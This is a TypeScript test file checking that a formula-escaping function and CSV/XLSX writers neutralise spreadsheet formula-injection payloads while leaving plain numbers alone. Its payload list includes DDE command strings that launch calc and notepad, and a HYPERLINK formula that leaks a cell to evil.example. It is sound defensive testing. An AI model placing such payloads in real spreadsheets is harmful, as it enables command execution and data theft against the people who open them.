// Formula injection: the OWASP payloads come out as text in both writers, plain numbers stay
// as they are.
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { tempDir } from '../testing/workspace';
import type { Column } from './columns';
import { formulaSafe } from './formulaSafe';
import { csvWriter, xlsxWriter } from './writers';

const PAYLOADS = [
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  '=1+1',
  '+1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '-',
  '+86 138 1601 2345',
  "=cmd|' /C notepad'!'A1'",
];
const NUMBERS = ['-12', '+3.5', '1e5', '-0.25', '.5', '-1E-3', '42'];
const PLAIN = ['上海沪工阀门厂（集团）有限公司', '2018-09-19', 'a=b', '', "'已有引号"];

describe('formulaSafe', () => {
  it('puts an apostrophe before each payload', () => {
    for (const p of PAYLOADS) expect(formulaSafe(p)).toBe(`'${p}`);
  });

  it('leaves plain numbers and ordinary text alone', () => {
    for (const n of [...NUMBERS, ...PLAIN]) expect(formulaSafe(n)).toBe(n);
  });

  it('does not take a number followed by more for a number', () => {
    for (const p of ['-1+1', '+1e5x', '-2 ', '1e5']) expect(formulaSafe(p)).toBe(p.startsWith('1') ? p : `'${p}`);
  });
});

describe('the writers', () => {
  const dir = tempDir('formula-safe-');
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
  const columns: Column[] = [{ header: '内容', type: 'text', width: 20 }];
  const cells = [...PAYLOADS, ...NUMBERS];

  it('CSV: every payload starts with an apostrophe, numbers do not', async () => {
    const file = path.join(dir, 'a.csv');
    const w = csvWriter(file, columns);
    await w.add(cells.map((c) => [c]));
    await w.finish();
    const text = fs.readFileSync(file, 'utf8');
    expect(text).toContain(`"'-2+3+cmd|' /C calc'!A0"`.replace(/^"|"$/g, ''));
    expect(text).toContain("'@SUM(1)\r\n");
    expect(text).toContain("'\t=1\r\n");
    expect(text).toContain(`"'\r=1"`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")"`);
    for (const n of NUMBERS) expect(text).toContain(`\r\n${n}\r\n`);
  });

  it('XLSX: the cells read back as text starting with an apostrophe, numbers unchanged', async () => {
    const file = path.join(dir, 'a.xlsx');
    const w = xlsxWriter(file, columns, '表');
    await w.add(cells.map((c) => [c]));
    await w.finish();
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const values: unknown[] = [];
    book.worksheets[0]!.eachRow((row, n) => n > 1 && values.push(row.getCell(1).value));
    // XML reads a lone CR back as LF (exceljs writes it unescaped); the apostrophe is still first.
    expect(values).toEqual([...PAYLOADS.map((p) => `'${p.replace(/\r/g, '\n')}`), ...NUMBERS]);
    expect(values.some((v) => typeof v === 'object')).toBe(false); // no formula cell
  });
});
